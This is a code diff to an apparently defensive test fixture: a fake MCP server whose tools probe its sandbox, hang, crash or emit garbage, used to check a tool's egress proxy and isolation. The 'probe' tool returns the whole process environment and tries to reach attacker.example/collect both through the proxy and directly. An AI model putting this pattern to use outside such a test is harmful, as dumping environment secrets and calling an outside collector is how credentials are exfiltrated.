@@ -2,10 +2,11 @@
 //   facts    a real server (the SDK's McpServer over stdio) with two tools: `write_version` fetches the data
 //            file from an allowed host through crew's egress proxy and writes its version into the checkout;
 //            `probe` says who it runs as, what its environment holds, and whether a host outside the
-//            allowlist answers, by the proxy and by name
+//            allowlist answers, by the proxy and by name, and where it started (its folder, and whether it may write there)
+//            `stall` never answers; `die` exits in the middle of the call
 //   hang     starts, reads its input, and never answers
 //   garbage  prints lines that are not MCP messages, and keeps running
-import { writeFileSync } from 'node:fs';
+import { rmSync, writeFileSync } from 'node:fs';
 import { request } from 'node:http';
 import { connect } from 'node:net';
 import { userInfo } from 'node:os';
@@ -63,8 +64,18 @@ if (kind === 'hang') {
   server.registerTool('probe', { description: 'Says where this server runs.', inputSchema: {} }, async () => {
     const outside = await viaProxy('http://attacker.example/collect');
     const byName = await direct('attacker.example');
-    return { content: [{ type: 'text', text: JSON.stringify({ user: userInfo().username, env: process.env, outside, byName }) }] };
+    let cwdWritable = true;
+    try {
+      writeFileSync('.mcp-probe', 'x');
+      rmSync('.mcp-probe');
+    } catch {
+      cwdWritable = false;
+    }
+    const where = { cwd: process.cwd(), cwdWritable };
+    return { content: [{ type: 'text', text: JSON.stringify({ user: userInfo().username, env: process.env, outside, byName, ...where }) }] };
   });
+  server.registerTool('stall', { description: 'Never answers.', inputSchema: {} }, () => new Promise(() => undefined));
+  server.registerTool('die', { description: 'Exits mid-call.', inputSchema: {} }, async () => process.exit(3));
   server.registerTool('not_allowed', { description: 'crew.yml does not allow this one.', inputSchema: {} }, async () => ({
     content: [{ type: 'text', text: 'should never be called' }],
   }));
